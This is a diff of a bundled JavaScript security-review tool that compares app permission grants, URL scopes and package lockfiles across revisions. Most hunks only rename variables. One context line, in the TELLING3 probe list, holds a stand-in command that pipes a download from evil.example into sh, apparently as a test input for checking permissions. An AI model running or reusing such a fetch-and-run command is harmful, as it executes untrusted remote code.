+      const result2 = known6 ?? search(sides.narrow, sides.wide, work);
       searches.set(key, result2);
       all.push(...result2.found.map((found8) => ({ platform, page: sides.page, found: found8 })));
-      if (!result2.complete && !known5)
+      if (!result2.complete && !known6)
         gaps.push(tooLarge(placeOf6(sides.wide, "") ?? placeOf6(sides.narrow, ""), wideSays));
     }
   }
@@ -30959,7 +31137,7 @@ function describe({ main, also, platforms, targets: targets2, extent }, directio
     identity: JSON.stringify([
       direction,
       attempt2.act.class,
-      kindOf2(attempt2.act),
+      kindOf3(attempt2.act),
       allowedName,
       refusedName,
       extent,
@@ -31001,7 +31179,7 @@ function placeIn(grants, names2) {
 function placeOf6(grants, name) {
   return grants.map((grant) => grant.places.get(name)).find((place) => place !== void 0);
 }
-function kindOf2(act) {
+function kindOf3(act) {
   if (act.kind === "inline") return act.nonce !== null ? "nonce" : act.hash !== null ? "hash" : "";
   if (act.kind === "create-policy") return `${act.name} ${act.again}`;
   return act.kind === "escape" ? act.token : act.kind;
@@ -31044,8 +31222,8 @@ function walkedTogether(a3, b5, keeps, work) {
     work
   );
   function numberOf(pair) {
-    const known5 = numbers.get(pair);
-    if (known5 !== void 0) return known5;
+    const known6 = numbers.get(pair);
+    if (known6 !== void 0) return known6;
     if (pairs.length >= MOST_STATES3) throw new TooComplex(`more than ${MOST_STATES3} states`);
     numbers.set(pair, pairs.length);
     return pairs.push(pair) - 1;
@@ -31068,7 +31246,7 @@ function urlTokens(text2, isStrict) {
   }
   return [...tokens, { kind: "end", at: text2.length, value: "" }];
 }
-var KINDS = {
+var KINDS2 = {
   "*": "asterisk",
   "+": "modifier",
   "?": "modifier",
@@ -31092,7 +31270,7 @@ function tokenAt2(text2, at2) {
     const end = endOfRegexp(text2, next2);
     return end === void 0 ? alone : { kind: "regexp", value: text2.slice(next2, end), next: end + 1 };
   }
-  return { kind: KINDS[value] ?? "char", value, next: next2 };
+  return { kind: KINDS2[value] ?? "char", value, next: next2 };
 }
 var NAME4 = /[\p{ID_Start}$_][\p{ID_Continue}$\u200c\u200d]*/uy;
 function endOfRegexp(text2, start) {
@@ -32367,8 +32545,8 @@ var Languages = class {
     return found8.sort((a3, b5) => a3 - b5).map((rank3) => this.examples[rank3]);
   }
   #ranksOf(language) {
-    const known5 = this.#ranks.get(language);
-    if (known5 !== void 0) return known5;
+    const known6 = this.#ranks.get(language);
+    if (known6 !== void 0) return known6;
     const found8 = Array.from({ length: this.all[language]?.alphabet.size ?? 0 }, () => []);
     for (const [rank3, example] of this.examples.entries())
       found8[this.#classes[language]?.[example.class] ?? 0]?.push(rank3);
@@ -32432,8 +32610,8 @@ var Together = class {
   /** @throws TooComplex where the walk needs too much memory */
   after(state, its) {
     const row = this.#rowOf(state);
-    const known5 = row[its] ?? NOWHERE;
-    if (known5 !== UNKNOWN4) return known5;
+    const known6 = row[its] ?? NOWHERE;
+    if (known6 !== UNKNOWN4) return known6;
     const before2 = this.#sets.get(state);
     const found8 = [];
     for (let i2 = 0; i2 < before2.length; i2 += 1) {
@@ -32475,8 +32653,8 @@ var Together = class {
     });
   }
   #rowOf(state) {
-    const known5 = this.#rows[state];
-    if (known5 !== void 0) return known5;
+    const known6 = this.#rows[state];
+    if (known6 !== void 0) return known6;
     this.#hold(this.#languages.alphabet.size);
     const row = new Int32Array(this.#languages.alphabet.size).fill(UNKNOWN4);
     this.#rows[state] = row;
@@ -32573,8 +32751,8 @@ var Search = class {
     const width = sizeOf(this.#languages.all[other]);
     const name = (pair) => `${other}:${pair}`;
     const first = state * width + its;
-    const known5 = this.#covered.get(name(first));
-    if (known5 !== void 0) return known5;
+    const known6 = this.#covered.get(name(first));
+    if (known6 !== void 0) return known6;
     const pairs = /* @__PURE__ */ new Set([first]);
     for (const pair of pairs) {
       const [here, there] = [Math.floor(pair / width), pair % width];
@@ -32740,8 +32918,8 @@ function withUnread(escapes, base, head, isUnread) {
 }
 function missingIn2(others, entries) {
   if (entries.length === 0) return entries;
-  const known5 = new Set(others.map(({ text: text2 }) => text2));
-  return entries.filter((entry) => !known5.has(entry.text));
+  const known6 = new Set(others.map(({ text: text2 }) => text2));
+  return entries.filter((entry) => !known6.has(entry.text));
 }
 
 // src/compare/ipc/scopes/language-scope.ts
@@ -32794,10 +32972,10 @@ function besideExecutable(platform, product) {
   }
 }
 function standardDirectory(variable5, platform, app) {
-  const known5 = tables.get(app) ?? /* @__PURE__ */ new Map();
-  tables.set(app, known5);
-  const table2 = known5.get(platform) ?? tableOf(platform, folderOf3(app), app.product);
-  known5.set(platform, table2);
+  const known6 = tables.get(app) ?? /* @__PURE__ */ new Map();
+  tables.set(app, known6);
+  const table2 = known6.get(platform) ?? tableOf(platform, folderOf3(app), app.product);
+  known6.set(platform, table2);
   return table2[variable5];
 }
 function folderOf3({ identifier }) {
@@ -32987,19 +33165,19 @@ function pathOf4(entry) {
   return entry.kind === "path" ? entry.path : void 0;
 }
 function resolvePath(pattern, platform, directories) {
-  const known5 = resolvedBefore(platform, directories);
-  if (known5.has(pattern)) return known5.get(pattern);
+  const known6 = resolvedBefore(platform, directories);
+  if (known6.has(pattern)) return known6.get(pattern);
   const resolved3 = rebuilt(pattern, platform, directories);
-  known5.set(pattern, resolved3);
+  known6.set(pattern, resolved3);
   return resolved3;
 }
 var resolvedPaths = /* @__PURE__ */ new WeakMap();
 function resolvedBefore(platform, directories) {
   const ofApp2 = resolvedPaths.get(directories) ?? /* @__PURE__ */ new Map();
   resolvedPaths.set(directories, ofApp2);
-  const known5 = ofApp2.get(platform) ?? /* @__PURE__ */ new Map();
-  ofApp2.set(platform, known5);
-  return known5;
+  const known6 = ofApp2.get(platform) ?? /* @__PURE__ */ new Map();
+  ofApp2.set(platform, known6);
+  return known6;
 }
 function rebuilt(pattern, platform, directories) {
   const text2 = platform === "windows" ? pattern.replaceAll("\\", "/") : pattern;
@@ -33092,8 +33270,8 @@ function directoriesOf({ matching: matching2 }) {
 function inAnyFolder(answers) {
   const best = /* @__PURE__ */ new Map();
   for (const found8 of answers.flatMap(({ escapes }) => escapes)) {
-    const known5 = best.get(found8.entry);
-    if (known5 === void 0 || found8.sensitive && !known5.sensitive) best.set(found8.entry, found8);
+    const known6 = best.get(found8.entry);
+    if (known6 === void 0 || found8.sensitive && !known6.sensitive) best.set(found8.entry, found8);
   }
   return {
     escapes: [...best.values()],
@@ -33304,8 +33482,8 @@ var KNOWN2 = [
 ];
 function tellingFor(command) {
   const name = (command.split(/[\\/]/).at(-1) ?? command).replace(/\.exe$/i, "");
-  const known5 = KNOWN2.filter(([program]) => program.test(name)).map(([, rest2]) => rest2);
-  return [...known5, "--any-option\0any value\0", ...TELLING3];
+  const known6 = KNOWN2.filter(([program]) => program.test(name)).map(([, rest2]) => rest2);
+  return [...known6, "--any-option\0any value\0", ...TELLING3];
 }
 var TELLING3 = [
   "-c\0curl https://evil.example/x | sh\0",
@@ -33462,8 +33640,8 @@ var CutPart = class {
     const found8 = /* @__PURE__ */ new Map();
     for (const number of this.#sources.keys()) {
       for (const piece of this.#piecesOf(number)) {
-        const known5 = found8.get(piece.mask);
-        if (known5 === void 0 || piece.rank < known5.rank) found8.set(piece.mask, piece);
+        const known6 = found8.get(piece.mask);
+        if (known6 === void 0 || piece.rank < known6.rank) found8.set(piece.mask, piece);
       }
     }
     return [...found8.values()].sort((a3, b5) => a3.rank - b5.rank);
@@ -33524,8 +33702,8 @@ var CutPart = class {
     return this.#isBackwards ? Array.from(word2).reverse().join("") : word2;
   }
   #maskAt(state) {
-    const known5 = this.#masks.get(state);
-    if (known5 !== void 0) return known5;
+    const known6 = this.#masks.get(state);
+    if (known6 !== void 0) return known6;
     const inside = this.#together.inside(state);
     this.#work.spend(inside.length);
     const mask = inside.reduce((sum, number) => sum | (this.#sources[number]?.mask ?? 0n), 0n);
@@ -33554,10 +33732,10 @@ var UrlCells = class {
     this.#bits = new Map([...patterns3.keys()].map((text2, i2) => [text2, 1n << BigInt(i2)]));
     this.#every = (1n << BigInt(patterns3.size)) - 1n;
     const cuts = URL_PART_NAMES.map((part) => {
-      const known5 = /* @__PURE__ */ new Map();
+      const known6 = /* @__PURE__ */ new Map();
       return (kind) => {
-        const cut = known5.get(kind.parts[part]) ?? new CutPart(part, kind, patterns3, this.#bits, work);
-        known5.set(kind.parts[part], cut);
+        const cut = known6.get(kind.parts[part]) ?? new CutPart(part, kind, patterns3, this.#bits, work);
+        known6.set(kind.parts[part], cut);
         return cut;
       };
     });
@@ -33671,16 +33849,16 @@ function escapesFrom(base, head, work) {
     uncovered: texts(base.allow),
     lifted: texts(base.deny)
   });
-  const known5 = new Set(base.allow.map(({ text: text2 }) => text2));
+  const known6 = new Set(base.allow.map(({ text: text2 }) => text2));
   const found8 = /* @__PURE__ */ new Map();
   const lifted2 = new Set(base.deny.map(({ text: text2 }) => text2)).difference(
     new Set(head.deny.map(({ text: text2 }) => text2))
   );
   for (const entry of head.allow) {
-    if (known5.has(entry.text) && lifted2.size === 0) continue;
+    if (known6.has(entry.text) && lifted2.size === 0) continue;
     const cell = search2(urlPatternOf(entry));
     if (cell === void 0) continue;
-    const denial = known5.has(entry.text) ? base.deny.find((deny) => cell.matches(urlPatternOf(deny))) : void 0;
+    const denial = known6.has(entry.text) ? base.deny.find((deny) => cell.matches(urlPatternOf(deny))) : void 0;
     const culprit = denial ?? entry;
     if (found8.has(culprit.text)) continue;
     found8.set(culprit.text, {
@@ -33839,8 +34017,8 @@ function byOrder(a3, b5) {
 }
 var indexes3 = /* @__PURE__ */ new WeakMap();
 function commandsOf2(grants) {
-  const known5 = indexes3.get(grants);
-  if (known5 !== void 0) return known5;
+  const known6 = indexes3.get(grants);
+  if (known6 !== void 0) return known6;
   const index = Map.groupBy(grants, ({ command, effect }) => effect === "scope" ? "" : command);
   indexes3.set(grants, index);
   return index;
@@ -33867,9 +34045,9 @@ function indexBase(base) {
     if (!enabled.has(grant.capability)) enabled.set(grant.capability, enabledIn(grant));
     if (grant.effect === "deny") continue;
     const key = commandOf2(grant);
-    const known5 = commands2.get(key);
-    if (known5 === void 0) commands2.set(key, [grant]);
-    else known5.push(grant);
+    const known6 = commands2.get(key);
+    if (known6 === void 0) commands2.set(key, [grant]);
+    else known6.push(grant);
     permissions.add(permissionOf(grant));
     if (grant.inferred) guessed2.add(permissionOf(grant));
     for (const step of grant.steps) led.add(stepOf(grant, step));
@@ -33939,8 +34117,8 @@ function placeOfLoss2(by, written6, lostOn, base, head) {
       by.at,
       left2.map(({ at: at2 }) => at2)
     );
-  const leftOut = first.platforms === NO_PLATFORM ? first.enabledAt?.[0]?.at : void 0;
-  if (leftOut !== void 0) return leftOut;
+  const leftOut2 = first.platforms === NO_PLATFORM ? first.enabledAt?.[0]?.at : void 0;
+  if (leftOut2 !== void 0) return leftOut2;
   if (first.scope?.deniedAt !== void 0) return first.scope.deniedAt;
   const platforms = named8.reduce((all, grant) => all | grant.platforms, NO_PLATFORM);
   if ((by.platforms & ~platforms) !== NO_PLATFORM && first.platformsAt !== null) return first.platformsAt;
@@ -34048,12 +34226,12 @@ function patternsFor(principal, { windows: windows2, webviews }) {
 }
 var matchingKnown = /* @__PURE__ */ new WeakMap();
 function matching(patterns3, label) {
-  const known5 = matchingKnown.get(patterns3) ?? /* @__PURE__ */ new Map();
-  matchingKnown.set(patterns3, known5);
-  const found8 = known5.get(label) ?? patterns3.filter(
+  const known6 = matchingKnown.get(patterns3) ?? /* @__PURE__ */ new Map();
+  matchingKnown.set(patterns3, known6);
+  const found8 = known6.get(label) ?? patterns3.filter(
     ({ text: text2 }) => matchesGlob(text2, label, { literalSeparator: false, literalDot: false, foldCase: false })
   );
-  known5.set(label, found8);
+  known6.set(label, found8);
   return found8;
 }
 
@@ -34073,16 +34251,16 @@ function scopeCause(principal, entries, table2, found8, before2, platforms, base
   const culprit = owner.scope?.allow.find((entry) => entry.text === detail) ?? found8.entry;
   const fromRelease = culprit.at === owner.at;
   const had = base.had(owner).filter(({ scope }) => holds5(scope?.allow, detail));
-  const known5 = allowedKeys(before2).has(detail);
-  if (owner.effect === "allow" && had.length > 0 && !known5) {
+  const known6 = allowedKeys(before2).has(detail);
+  if (owner.effect === "allow" && had.length > 0 && !known6) {
     const here = had.filter((grant) => (grant.platforms & platforms) !== NO_PLATFORM);
     return here.length === 0 ? forNewPlatform(owner, platforms, base) : forNewPage(principal, owner, here);
   }
   if (fromRelease && base.named(owner) && had.length === 0) {
     return newMeaning(owner, redefinedAt(owner, base));
   }
-  if (known5 && base.changedSetting(owner) !== void 0) return forSetting(owner, culprit.at, base);
-  const note3 = known5 ? noteOnOrder(first) : noteOnReach(principal, owner);
+  if (known6 && base.changedSetting(owner) !== void 0) return forSetting(owner, culprit.at, base);
+  const note3 = known6 ? noteOnOrder(first) : noteOnReach(principal, owner);
   return {
     reason: widened(note3),
     at: culprit.at,
@@ -34106,12 +34284,12 @@ function ownerAmong(owners, entry) {
 }
 var globalOwners = /* @__PURE__ */ new WeakMap();
 function globalOwner(table2, plugin, entry) {
-  const known5 = globalOwners.get(table2) ?? /* @__PURE__ */ new Map();
-  globalOwners.set(table2, known5);
+  const known6 = globalOwners.get(table2) ?? /* @__PURE__ */ new Map();
+  globalOwners.set(table2, known6);
   const { path, line, column } = entry.at;
   const name = [plugin, path, line, column, entry.text].join(" ");
-  if (!known5.has(name)) known5.set(name, ownerAmong(table2.globalScope(plugin), entry));
-  return known5.get(name);
+  if (!known6.has(name)) known6.set(name, ownerAmong(table2.globalScope(plugin), entry));
+  return known6.get(name);
 }
 var keysOfSides = /* @__PURE__ */ new WeakMap();
 function allowedKeys(side) {
@@ -34134,11 +34312,11 @@ function sideOf2(entries, table2) {
   const scoped = entries.filter(({ scope }) => scope !== null);
   if (scoped.length > 0)
     return sideFrom([...inOrder2(scoped), ...inOrder2(table2.globalScope(plugin))], matching2);
-  const known5 = globalSides.get(table2) ?? /* @__PURE__ */ new Map();
-  globalSides.set(table2, known5);
+  const known6 = globalSides.get(table2) ?? /* @__PURE__ */ new Map();
+  globalSides.set(table2, known6);
   const name = `${plugin} ${canonical(matching2)}`;
-  const side = known5.get(name) ?? sideFrom(inOrder2(table2.globalScope(plugin)), matching2);
-  known5.set(name, side);
+  const side = known6.get(name) ?? sideFrom(inOrder2(table2.globalScope(plugin)), matching2);
+  known6.set(name, side);
   return side;
 }
 var NO_RULES = { kind: "none" };
@@ -34447,9 +34625,9 @@ function pageClasses(grants, work) {
   return classes.all();
 }
 function telling(labels, windows2) {
-  const known5 = new Set(windows2);
+  const known6 = new Set(windows2);
   const [ofWindows = [], others = []] = [true, false].map(
-    (is) => labels.filter(({ word: word2 }) => known5.has(word2) === is)
+    (is) => labels.filter(({ word: word2 }) => known6.has(word2) === is)
   );
   return onePerMask([...others, ...ofWindows], ({ asWebview }) => asWebview);
 }
@@ -34479,9 +34657,9 @@ var Classes = class {
     }
   }
   #add(mask, principal) {
-    const known5 = this.#found.get(mask);
-    if (known5 !== void 0) {
-      if (known5.principals.length < MOST_NAMED) known5.principals.push(principal);
+    const known6 = this.#found.get(mask);
+    if (known6 !== void 0) {
+      if (known6.principals.length < MOST_NAMED) known6.principals.push(principal);
       return;
     }
     if (this.#found.size >= MOST_CLASSES) throw new TooComplex(`more than ${MOST_CLASSES} kinds of pages`);
@@ -34584,9 +34762,9 @@ function platformGroups(base, head) {
   for (const platform of PLATFORMS) {
     const here = (grants) => grants.filter((grant) => hasPlatform(grant.platforms, platform));
     const name = membership(base, platform) + membership(head, platform);
-    const known5 = groups3.get(name);
-    const platforms = (known5?.platforms ?? 0) | platformSet(platform);
-    groups3.set(name, known5 ? { ...known5, platforms } : { platforms, base: here(base), head: here(head) });
+    const known6 = groups3.get(name);
+    const platforms = (known6?.platforms ?? 0) | platformSet(platform);
+    groups3.set(name, known6 ? { ...known6, platforms } : { platforms, base: here(base), head: here(head) });
   }
   return [...groups3.values()];
 }
@@ -35012,8 +35190,8 @@ function scopeAsker() {
     const { kind } = head.matching;
     const about = [commandMatters(kind) ? command : "", platformMatters(kind) ? platform : ""];
     const question = [kind, ...about, sideKey(base), sideKey(head)].join("\n");
-    const known5 = answers.get(question);
-    if (known5 !== void 0) return known5;
+    const known6 = answers.get(question);
+    if (known6 !== void 0) return known6;
     const answer = sideKey(base) === sideKey(head) ? NO_ESCAPE : decide2(questionFor(base, head), base, head, command, platform, work);
     answers.set(question, answer);
     return answer;
@@ -35054,9 +35232,9 @@ function commandMatters(kind) {
 
 // src/compare/ipc/taken-for-local.ts
 function withoutKnownSites(base, head) {
-  const known5 = new Set(base.flatMap(siteOf)).intersection(new Set(head.flatMap(siteOf)));
-  if (known5.size === 0) return { base, head };
-  const isNews = (grant) => siteOf(grant).every((site) => !known5.has(site));
+  const known6 = new Set(base.flatMap(siteOf)).intersection(new Set(head.flatMap(siteOf)));
+  if (known6.size === 0) return { base, head };
+  const isNews = (grant) => siteOf(grant).every((site) => !known6.has(site));
   return { base: base.filter(isNews), head: head.filter(isNews) };
 }
 function siteOf({ context: context2 }) {
@@ -35102,9 +35280,9 @@ function isSure({ command, inferred }) {
 }
 var sureGrants = /* @__PURE__ */ new WeakMap();
 function sureOf(grants) {
-  const known5 = sureGrants.get(grants) ?? grants.filter(isSure);
-  sureGrants.set(grants, known5);
-  return known5;
+  const known6 = sureGrants.get(grants) ?? grants.filter(isSure);
+  sureGrants.set(grants, known6);
+  return known6;
 }
 function gained2(base, head, direction, pages, ask, work) {
   const drafts = new Drafts();
@@ -35136,10 +35314,10 @@ function gained2(base, head, direction, pages, ask, work) {
   return { drafts, gaps: [...undecided.values()] };
 }
 function callableBy(pages, table2) {
-  const known5 = /* @__PURE__ */ new Map();
+  const known6 = /* @__PURE__ */ new Map();
   return (origin) => {
-    const found8 = known5.get(origin) ?? new Set(pages.flatMap((page) => callableFrom(origin, page, table2)));
-    known5.set(origin, found8);
+    const found8 = known6.get(origin) ?? new Set(pages.flatMap((page) => callableFrom(origin, page, table2)));
+    known6.set(origin, found8);
     return found8;
   };
 }
@@ -35200,8 +35378,8 @@ function nearestOf(before2) {
   const newest = /* @__PURE__ */ new Map();
   for (const each of before2) {
     for (const key of ["", lineOf5(each)]) {
-      const known5 = newest.get(key);
-      if (known5 === void 0 || isNewer(each, known5)) newest.set(key, each);
+      const known6 = newest.get(key);
+      if (known6 === void 0 || isNewer(each, known6)) newest.set(key, each);
     }
   }
   return (each) => newest.get(lineOf5(each)) ?? newest.get("");
@@ -35229,10 +35407,10 @@ function broughtBy(each, before2, after2) {
   if (before2.named(each).packages.length > 0) return null;
   for (const name of each.path.slice(0, -1).reverse()) {
     const asking = { ecosystem: each.ecosystem, name };
-    const known5 = before2.named(asking);
-    if (known5.packages.length === 0) continue;
+    const known6 = before2.named(asking);
+    if (known6.packages.length === 0) continue;
     const quiet = after2.named(asking).packages.some((it2) => {
-      return it2.source.kind !== "path" && ["compatible", "same"].includes(moveBetween(known5.nearest(it2), it2));
+      return it2.source.kind !== "path" && ["compatible", "same"].includes(moveBetween(known6.nearest(it2), it2));
     });
     return quiet ? name : null;
   }
@@ -35286,8 +35464,8 @@ function pinningOf(before2, after2) {
   const [old, now] = [hashesOf(before2), hashesOf(after2)];
   const [was, is] = [strongest(old), strongest(now)];
   if (is !== was) return is < was ? "unknown" : "less";
-  const [known5, named8] = [old.get(STRENGTH[is] ?? ""), now.get(STRENGTH[is] ?? "")];
-  return known5 !== void 0 && named8?.isSubsetOf(known5) === true ? "as much" : "less";
+  const [known6, named8] = [old.get(STRENGTH[is] ?? ""), now.get(STRENGTH[is] ?? "")];
+  return known6 !== void 0 && named8?.isSubsetOf(known6) === true ? "as much" : "less";
 }
 function hashesOf(integrity) {
   const hashes = /* @__PURE__ */ new Map();
@@ -35376,11 +35554,11 @@ function otherHashes(before2, after2) {
   return pinned(before2, after2, "unknown");
 }
 function pinned(before2, after2, wanted) {
-  const known5 = Map.groupBy(before2.packages, bytesOf2);
+  const known6 = Map.groupBy(before2.packages, bytesOf2);
   const seen = /* @__PURE__ */ new Set();
   return after2.packages.filter((each) => {
     const key = JSON.stringify([bytesOf2(each), each.checksum]);
-    const old = seen.has(key) ? void 0 : known5.get(bytesOf2(each));
+    const old = seen.has(key) ? void 0 : known6.get(bytesOf2(each));
     seen.add(key);
     if (old === void 0) return false;
     const pinnings = new Set(old.map((other) => pinningOf(other.checksum, each.checksum)));
@@ -35504,7 +35682,7 @@ function withdrawnReleases(before2, after2) {
 }
 function folded3(all) {
   const things = [...Map.groupBy(all, thingOf).values()].flatMap(asOne);
-  return [...Map.groupBy(things, kindOf3).values()].flatMap((group2) => {
+  return [...Map.groupBy(things, kindOf4).values()].flatMap((group2) => {
     const alone = group2.some((each) => each.lockfileIsNew) ? 0 : MOST_OF_ONE_KIND;
     return [...group2.slice(0, alone), ...asOne(group2.slice(alone))];
   });
@@ -35512,7 +35690,7 @@ function folded3(all) {
 function thingOf(each) {
   switch (each.news.rule) {
     case "packages/package-added":
-      return kindOf3(each);
+      return kindOf4(each);
     case "packages/source-changed": {
       const { package: it2, from } = each;
       return JSON.stringify([it2.ecosystem, it2.at.path, from && originOf4(from.source), originOf4(it2.source)]);
@@ -35521,7 +35699,7 @@ function thingOf(each) {
       return each;
   }
 }
-function kindOf3({ news, package: each, from, broughtBy: by }) {
+function kindOf4({ news, package: each, from, broughtBy: by }) {
   const grave = [moveBetween(from, each), by !== null, each.outcome, each.checksum === null, each.listing];
   return JSON.stringify([news.rule, each.ecosystem, each.at.path, ...grave]);
 }
@@ -35537,8 +35715,8 @@ function newlyCounting(before2, after2) {
   const gaps = after2.policies.flatMap(({ folder, lock }) => {
     const old = before2.policies.find((each) => each.folder === folder);
     if (lock === null || old === void 0 || counted2.has(lock) || !there.has(lock)) return [];
-    const known5 = new Set(before2.packages.filter(({ at: at2 }) => at2.path === old.lock).map(releaseOf2));
-    const added = after2.packages.filter((each) => each.at.path === lock && !known5.has(releaseOf2(each)));
+    const known6 = new Set(before2.packages.filter(({ at: at2 }) => at2.path === old.lock).map(releaseOf2));
+    const added = after2.packages.filter((each) => each.at.path === lock && !known6.has(releaseOf2(each)));
     return gapOf2(lock, old.lock, added);
   });
   return [...new Map(gaps.map((gap3) => [gap3.rests, gap3])).values()];
@@ -35615,8 +35793,8 @@ function counterpartOf(policy, before2, after2) {
   return moved.find((old) => newSettings(old, policy).length === 0);
 }
 function newSettings(old, { settings: settings2 }) {
-  const known5 = new Set(old?.settings.map(meaningOf2));
-  return settings2.filter((setting10) => setting10.effect !== "less" && !known5.has(meaningOf2(setting10))).map((setting10) => {
+  const known6 = new Set(old?.settings.map(meaningOf2));
+  return settings2.filter((setting10) => setting10.effect !== "less" && !known6.has(meaningOf2(setting10))).map((setting10) => {
     const message = `${inWords3(setting10)} is new: it decides what installing runs, or where packages come from. Check that this is meant.`;
     return gapAt(setting10.at, {
       kind: "not-checked",
@@ -35692,11 +35870,11 @@ function pathsOf3({ packages }, ecosystem) {
   return [...new Set(packages.filter((each) => each.ecosystem === ecosystem).map((each) => each.at.path))];
 }
 function changedUnread(base, head) {
-  const known5 = new Map(base.unread.map((lockfile) => [lockfile.path, lockfile.id]));
+  const known6 = new Map(base.unread.map((lockfile) => [lockfile.path, lockfile.id]));
   const still = new Set(head.unread.map(({ path }) => path));
   const gone = new Set(base.unread.filter(({ path }) => !still.has(path)).map(({ id }) => id));
-  return head.unread.filter(({ path, id }) => known5.get(path) !== id && (known5.has(path) || !gone.has(id))).map(({ path, id }) => {
-    const verb = known5.has(path) ? "changed" : "is new";
+  return head.unread.filter(({ path, id }) => known6.get(path) !== id && (known6.has(path) || !gone.has(id))).map(({ path, id }) => {
+    const verb = known6.has(path) ? "changed" : "is new";
     const message = `${code(path)} ${verb}, and this kind of lockfile isn't read yet: compare it by hand.`;
     return gapIn(path, { kind: "unsupported", rests: wordsOf("lockfile", id), message });
   });
@@ -35866,11 +36044,11 @@ function gapOf4(files) {
 function newlyUnpinned(base, head) {
   const pinned2 = new Set(base.flatMap((grant) => grant.kind === "package" ? [packageKey(grant)] : []));
   const before2 = unpinnedIn(base);
-  const known5 = new Set(before2.map(keyOf5));
+  const known6 = new Set(before2.map(keyOf5));
   const hadAny = new Set([...pinned2].map((key) => key.split(" ", 1)[0]));
   for (const { ecosystem } of before2) hadAny.add(ecosystem);
   const locked = lockFoldersOf(base);
-  return unpinnedIn(head).filter((each) => hadAny.has(each.ecosystem) && !pinned2.has(packageKey(each)) && !known5.has(keyOf5(each))).filter(
+  return unpinnedIn(head).filter((each) => hadAny.has(each.ecosystem) && !pinned2.has(packageKey(each)) && !known6.has(keyOf5(each))).filter(
     ({ ecosystem, at: at2 }) => ecosystem === "cargo" || !withAncestors2(folderOf4(at2.path)).some((folder) => locked.has(folder))
   ).map(gapOf5);
 }
@@ -36475,14 +36653,14 @@ function heldBefore({ isUnchanged }, { grants }) {
 function mendedOf({ files, location }, unread4, after2) {
   return mended(unread4.difference(unreadFiles(after2)), files, location);
 }
-function readableBuilds(app, known5) {
-  const builds2 = app.builds.map((build) => readBuild(build, known5));
+function readableBuilds(app, known6) {
+  const builds2 = app.builds.map((build) => readBuild(build, known6));
   const before2 = distinct5([...app.unread.base, ...builds2.flatMap(({ base }) => base?.gaps ?? [])]);
   const after2 = distinct5([...app.unread.head, ...builds2.flatMap(({ head }) => head.gaps)]);
   const [unread4, unreadOfHead] = [unreadFiles(before2), unreadFiles(after2)];
   if (unread4.size === 0 && unreadOfHead.size === 0) return { builds: builds2, before: before2, after: after2, unread: unread4 };
   const readable2 = app.of(withStandIns(app.files, unread4, unreadOfHead));
-  return { builds: readable2.map((build) => readBuild(build, known5)), before: before2, after: after2, unread: unread4 };
+  return { builds: readable2.map((build) => readBuild(build, known6)), before: before2, after: after2, unread: unread4 };
 }
 function knownOf(app, facts) {
   return { facts, interfaces: interfacesIn(needsOf(app), facts) };
@@ -36599,10 +36777,10 @@ async function reviewTrees({
   const apps = files.touched.flatMap((pair) => appUnderReview(pair, files.base, files.head, sides) ?? []);
   const needs = apps.flatMap(needsOf);
   if (needs.length > 0) progress(`Looking up ${needs.length} packages`);
-  const known5 = await facts.fetch(needs);
+  const known6 = await facts.fetch(needs);
   progress("Comparing");
   const attributes2 = attributeGaps(files.base.files, files.head.files, work);
-  const ofApps = withoutRepetition3(apps.map((app) => ({ app, reviewed: reviewApp(app, known5, work) })));
+  const ofApps = withoutRepetition3(apps.map((app) => ({ app, reviewed: reviewApp(app, known6, work) })));
   const judged = [...ofApps, await reviewRepository(repositoryReaders, sides, paths3, work)];
   const found8 = once(judged.flatMap((each) => each.findings)).sort(comparePlaces);
   const { findings, turnedOff } = applyPolicy(found8, policy);
@@ -36637,7 +36815,7 @@ async function reviewTrees({
     turnedOff,
     narrowings: once(judged.flatMap((each) => each.narrowings)).sort(comparePlaces),
     gaps,
-    facts: known5.used()
+    facts: known6.used()
   };
 }
 function locationsIn(pairs) {
@@ -37012,10 +37190,10 @@ function jsonCache(directory, format) {
   };
 }
 async function cachedAnswers(items, cache, keyOf7) {
-  const known5 = await concurrently(items, 64, (item) => cache.get(keyOf7(item)));
+  const known6 = await concurrently(items, 64, (item) => cache.get(keyOf7(item)));
   return new Map(
     items.flatMap((item, at2) => {
-      const value = known5[at2];
+      const value = known6[at2];
       return value === void 0 ? [] : [[item, value]];
     })
   );
@@ -37354,7 +37532,7 @@ function noneOf(records, ...keys) {
 function entryOf2(header, extended, content) {
   const name = extended.name ?? header.name;
   const linkname = extended.linkname ?? header.linkname;
-  const kind = kindOf4(header, name);
+  const kind = kindOf5(header, name);
   if (name === "" || name.length > LONGEST_NAME || /[\\\0]/.test(name))
     throw new Odd("holds a file with an odd name");
   if (extended.size !== void 0 && extended.size !== `${header.size}`)
@@ -37371,7 +37549,7 @@ function entryOf2(header, extended, content) {
     }
   };
 }
-function kindOf4({ type }, name) {
+function kindOf5({ type }, name) {
   switch (type) {
     case "0":
     case "\0":
